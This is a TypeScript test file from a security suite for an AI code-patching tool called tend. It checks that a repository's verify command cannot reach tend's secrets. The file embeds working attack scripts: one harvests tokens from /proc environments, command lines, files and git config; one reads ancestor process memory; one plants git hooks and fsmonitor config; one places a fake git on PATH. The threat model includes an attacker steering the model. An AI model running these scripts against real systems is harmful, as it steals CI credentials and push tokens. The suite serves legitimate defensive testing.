// Trust suite, finding 5 of #15: verify-command runs the repository's code (with the model's
// patch in it) as tend's own user. Whatever that code can read, an attacker who steers the model
// or writes the branch can read: here it is a script that searches every place a secret could sit
// while it runs (every process's environment and command line, the checkout, HOME, RUNNER_TEMP,
// /tmp, git's configuration) and writes what it found to a file this test reads. A second script
// writes git hooks and config into the checkout, where tend's next git command (which carries the
// push token) would run them.

import { randomBytes } from 'node:crypto';
import { existsSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
import { mkdir, mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startAnthropicEmulator, type AnthropicEmulator } from '../../emulator/anthropic/server.js';
import { commitFiles } from '../../emulator/git-seed.js';
import { basicCredential } from '../../src/git/auth-env.js';
import { startE2E, type E2E } from '../e2e/world.js';
import { command, openReviewedPullRequest, SHIP_CONFIG } from '../e2e/ship-world.js';
import { decision, FAST, patch, RABBIT_FINDING, tendAnswers, type Pr } from './trust-world.js';

/** Unique to this file's world, so another suite's run on the same machine is never mistaken for ours. */
const random = (n: number) => randomBytes(n).toString('base64url').replace(/[-_]/g, 'x').slice(0, n);
const SECRETS = {
  'anthropic-api-key': `sk-ant-api03-${random(40)}`,
  'push-token': `ghp_${random(36)}`,
  'slack-token': `xoxb-1234567890-${random(24)}`,
};
/** Bedrock's session, in the job's environment as aws-actions/configure-aws-credentials leaves it: tend reads it, nothing it starts may. */
const AWS = {
  AWS_ACCESS_KEY_ID: `ASIA${random(16).toUpperCase()}`,
  AWS_SECRET_ACCESS_KEY: random(40),
  AWS_SESSION_TOKEN: `IQoJb3JpZ2luX2Vj${random(60)}`,
};

/**
 * The verify command's code. It knows nothing of the secrets, only their shapes, and looks
 * wherever a secret could be while it runs; `tend-environ-readable` proves it could read the
 * environment of the tend process that started it.
 */
const SCAN = String.raw`#!/bin/sh
out="$1"
shapes='(ghs|ghp|gho|ghu)_[A-Za-z0-9]{20,}|github_pat_[A-Za-z0-9_]{20,}|sk-ant-[A-Za-z0-9_-]{8,}|xox[abp]-[A-Za-z0-9-]{10,}|basic [A-Za-z0-9+/=]{20,}|AWS_(ACCESS_KEY_ID|SECRET_ACCESS_KEY|SESSION_TOKEN)=[^ ]+|(AKIA|ASIA)[A-Z0-9]{16}'
: > "$out.part"
for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do
  tr '\0' '\n' < "$f" 2>/dev/null | grep -Eao "$shapes" | sed "s|^|$f |" >> "$out.part"
done
dirs="$PWD $HOME"
pid=$$
while [ "$pid" -gt 1 ]; do
  pid=$(sed -n 's/^.*) . \([0-9]*\) .*$/\1/p' /proc/$pid/stat)
  [ -n "$pid" ] || break
  env=$(tr '\0' '\n' < /proc/$pid/environ 2>/dev/null)
  case "$env" in *GITHUB_ACTIONS=true*) ;; *) continue ;; esac
  echo "tend-environ-readable $pid" >> "$out.part"
  dirs="$dirs $(readlink /proc/$pid/cwd) $(printf '%s\n' "$env" | sed -n 's/^\(HOME\|RUNNER_TEMP\|GITHUB_WORKSPACE\)=//p' | tr '\n' ' ')"
done
for d in $dirs; do
  grep -rEao "$shapes" "$d" 2>/dev/null | sed "s|^|file |" >> "$out.part"
done
find /tmp -maxdepth 1 -type f 2>/dev/null | while read -r f; do grep -Eao "$shapes" "$f" 2>/dev/null | sed "s|^|$f |"; done >> "$out.part"
{ git config --list --show-origin; cat "$HOME/.gitconfig"; } 2>/dev/null | grep -Eao "$shapes" | sed "s|^|git-config |" >> "$out.part"
mv "$out.part" "$out"
`;

/**
 * The verify command's code, third kind: root's way in (sudo on GitHub-hosted runners, a
 * container job's own user). It reads the memory of every process above it, where tend holds
 * its tokens in plain bytes whatever its environment says.
 */
const MEMORY = String.raw`const fs = require('node:fs');
const shapes = /(ghs|ghp|gho|ghu)_[A-Za-z0-9]{20,}|sk-ant-[A-Za-z0-9_-]{8,}|xox[abp]-[A-Za-z0-9-]{10,}/g;
const found = [];
let pid = process.ppid;
while (pid > 1) {
  found.push('ancestor ' + pid);
  try {
    const fd = fs.openSync('/proc/' + pid + '/mem', 'r');
    for (const line of fs.readFileSync('/proc/' + pid + '/maps', 'utf8').split('\n')) {
      const m = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line);
      if (!m) continue;
      const start = parseInt(m[1], 16), end = parseInt(m[2], 16);
      for (let at = start; at < end && at - start < 1 << 30; at += 1 << 24) {
        const buffer = Buffer.alloc(Math.min(1 << 24, end - at));
        try { fs.readSync(fd, buffer, 0, buffer.length, at); } catch { break; }
        for (const hit of buffer.toString('latin1').match(shapes) ?? []) found.push('memory ' + pid + ' ' + hit);
      }
    }
  } catch (error) {
    found.push('unreadable ' + pid + ' ' + error.code);
  }
  pid = Number(/\) \S (\d+)/.exec(fs.readFileSync('/proc/' + pid + '/stat', 'utf8'))[1]);
}
fs.writeFileSync(process.argv[2], found.join('\n') + '\nscan done\n');
`;

/** The verify command's code, second kind: it leaves hooks and config for tend's next git command. */
const PLANT = String.raw`#!/bin/sh
marker="$1"
hook="#!/bin/sh
env > '$marker'"
for name in post-commit pre-commit reference-transaction post-index-change pre-push; do
  printf '%s\n' "$hook" > ".git/hooks/$name"; chmod +x ".git/hooks/$name"
done
mkdir -p "$PWD/.planted-hooks"
printf '%s\n' "$hook" > "$PWD/.planted-hooks/post-commit"; chmod +x "$PWD/.planted-hooks/post-commit"
git config core.hooksPath "$PWD/.planted-hooks"
git config core.fsmonitor "$PWD/.planted-hooks/post-commit"
`;

/**
 * The verify command's code, fourth kind: it leaves a program named `git` in a directory of the
 * job's PATH that the runner user can write and that comes before /usr/bin (on GitHub-hosted
 * Ubuntu, ~/.local/bin), which records its environment and hands over to the real git.
 */
const PLANT_GIT = String.raw`#!/bin/sh
bin="$1"; marker="$2"; real="$3"
mkdir -p "$bin"
printf '#!/bin/sh\nenv >> %s\nexec %s "$@"\n' "$marker" "$real" > "$bin/git"
chmod +x "$bin/git"
`;

let t: E2E;
let claude: AnthropicEmulator;
let dir: string;
let pushToken: string;

beforeAll(async () => {
  t = await startE2E({ config: SHIP_CONFIG });
  claude = await startAnthropicEmulator({ apiKey: SECRETS['anthropic-api-key'] });
  pushToken = SECRETS['push-token'];
  t.emu.state.addToken(pushToken, t.world.accounts.maintainer);
  dir = await mkdtemp(join(tmpdir(), 'tend-verify-secrets-'));
  // The repository's own check scripts, which verify-command runs: code the branch controls.
  await commitFiles(t.world.repo.bareDir, { branch: 'main', files: { 'scripts/check.sh': SCAN, 'scripts/lint.sh': PLANT, 'scripts/memory.cjs': MEMORY, 'scripts/plant-git.sh': PLANT_GIT }, message: 'Add check scripts' });
});

afterAll(async () => {
  await claude?.stop();
  await t?.stop();
  if (dir) await rm(dir, { recursive: true, force: true });
});

function run(payload: unknown, verifyCommand: string, env: Record<string, string> = {}) {
  return t.run('issue_comment', payload, {
    inputs: { ...SECRETS, 'verify-command': verifyCommand },
    env: { ...FAST, ANTHROPIC_BASE_URL: claude.url, ...AWS, ...env },
  });
}

/** A maintainer's pull request adding `src/<name>.ts`, one CodeRabbit finding on it, CI green, and the model's fix scripted. */
async function fixablePullRequest(name: string) {
  const path = `src/${name}.ts`;
  await commitFiles(t.world.repo.bareDir, { branch: `feature/${name}`, from: 'main', files: { [path]: `export function ${name}(w: number) {\n  return w;\n}\n` }, message: `Add ${name}` });
  const pr = t.emu.state.createPullRequest(t.world.repo, { title: `Add ${name}`, author: t.world.accounts.maintainer, head: `feature/${name}` }) as Pr;
  const [thread] = t.emu.state.addReview(t.world.repo, pr, { author: t.world.accounts.coderabbit, body: 'Review', comments: [{ path, line: 2, body: RABBIT_FINDING }] }).threads;
  t.emu.state.addReview(t.world.repo, pr, { author: t.world.accounts.gemini, body: 'No comments.' });
  t.emu.state.addCheckRun(t.world.repo, { name: 'build', headSha: t.emu.state.headOid(t.world.repo, pr), conclusion: 'success', app: t.world.accounts.actions });
  claude.script(decision('fix', `Reject negative ${name}s.`), patch([{ path, search: '  return w;', replace: "  if (w < 0) throw new RangeError('negative');\n  return w;" }]));
  return { pr, thread: thread! };
}

const fix = [
  decision('fix', 'Negative sizes must be rejected.'),
  patch([{ path: 'src/widget.ts', search: '  return w * h;', replace: "  if (w < 0 || h < 0) throw new RangeError('negative size');\n  return w * h;" }]),
];

describe('threat: the verify command reads tend’s secrets', () => {
  it('finds no token, key, chat token or AWS credential anywhere it can look while it runs', async () => {
    const { pr, threads } = await openReviewedPullRequest(t, { needsHuman: true });
    claude.script(...fix);
    const found = join(dir, 'found.txt');
    const result = await run(command(t, pr, '/tend ship'), `sh scripts/check.sh ${found}`);
    expect(result.exitCode, result.stdout + result.stderr).toBe(0);
    expect(claude.pending).toBe(0);
    // The script ran (confined, it does not even see the tend process that started it) ...
    const report = await readFile(found, 'utf8');
    // ... and the patch it checked was kept, so the search ran on the real path.
    expect(tendAnswers(threads.human!)[0]).not.toContain('reverted');
    const secrets = { ...SECRETS, ...AWS, 'github-token': t.world.tokens.actions };
    const leaked = Object.entries(secrets)
      .flatMap(([name, value]) => [value, basicCredential(value)].filter((form) => report.includes(form)).map(() => name));
    expect(leaked).toEqual([]);
  });

  it('finds no secret in the memory of the processes above it, even as root', async () => {
    const { pr, thread } = await fixablePullRequest('area');
    const found = join(dir, 'memory.txt');
    const result = await run(command(t, pr, '/tend ship'), `node scripts/memory.cjs ${found}`);
    expect(result.exitCode, result.stdout + result.stderr).toBe(0);
    expect(claude.pending, result.summary).toBe(0);
    const report = await readFile(found, 'utf8').catch(() => `no report; tend answered: ${tendAnswers(thread)[0]}`);
    expect(report).toContain('scan done');
    // The patch was kept: the scan ran on the real path, after tend had read every secret.
    expect(tendAnswers(thread)[0] ?? '').not.toContain('reverted');
    const secrets = { ...SECRETS, 'github-token': t.world.tokens.actions };
    const leaked = Object.entries(secrets).filter(([, value]) => report.includes(value)).map(([name]) => name);
    expect(leaked, report.split('\n').filter((line) => !line.startsWith('memory')).join('\n')).toEqual([]);
  });

  it('cannot plant hooks or config that tend’s next git command (holding the push token) runs', async () => {
    const { pr, thread } = await fixablePullRequest('size');
    const marker = join(dir, 'hook-ran.txt');
    const before = t.emu.state.headOid(t.world.repo, pr);
    const result = await run(command(t, pr, '/tend ship'), `sh scripts/lint.sh ${marker}`);
    expect(result.exitCode, result.stdout + result.stderr).toBe(0);
    expect(claude.pending, result.summary).toBe(0);
    // No planted program ran beside tend's git, so nothing saw the token ...
    expect(existsSync(marker)).toBe(false);
    // ... and the check counts as failed: the patch was reverted, nothing was pushed, and the
    // thread says why.
    expect(t.emu.state.headOid(t.world.repo, pr)).toBe(before);
    const answer = tendAnswers(thread)[0] ?? '';
    expect(answer).toContain("changed git's own files");
  });

  it('cannot put a program named git on the job’s PATH that tend’s next commit and push start', async () => {
    const { pr, thread } = await fixablePullRequest('depth');
    // The runner user's own ~/.local/bin, ahead of the system directories, as on GitHub's images.
    const home = join(dir, 'runner-home');
    const localBin = join(home, '.local', 'bin');
    await mkdir(localBin, { recursive: true });
    const marker = join(dir, 'fake-git-ran.txt');
    const realGit = execFileSync('sh', ['-c', 'command -v git'], { encoding: 'utf8' }).trim();
    const before = t.emu.state.headOid(t.world.repo, pr);
    const result = await run(command(t, pr, '/tend ship'), `sh scripts/plant-git.sh ${localBin} ${marker} ${realGit}`, {
      HOME: home,
      PATH: `${localBin}:${process.env.PATH ?? '/usr/bin:/bin'}`,
    });
    expect(result.exitCode, result.stdout + result.stderr).toBe(0);
    expect(claude.pending, result.summary).toBe(0);
    // The command did plant it where the job's PATH finds it first ...
    expect(existsSync(join(localBin, 'git'))).toBe(true);
    // ... and tend's commit and push after it never started it, so it saw no token ...
    const seen = existsSync(marker) ? await readFile(marker, 'utf8') : '';
    expect(seen.includes(pushToken) || seen.includes(basicCredential(pushToken)), 'the planted git saw the push token').toBe(false);
    expect(seen, 'the planted git ran').toBe('');
    // ... while the verified fix was still committed and pushed, with the real git.
    expect(t.emu.state.headOid(t.world.repo, pr)).not.toBe(before);
    expect(tendAnswers(thread)[0] ?? '').not.toContain('reverted');
  });
});
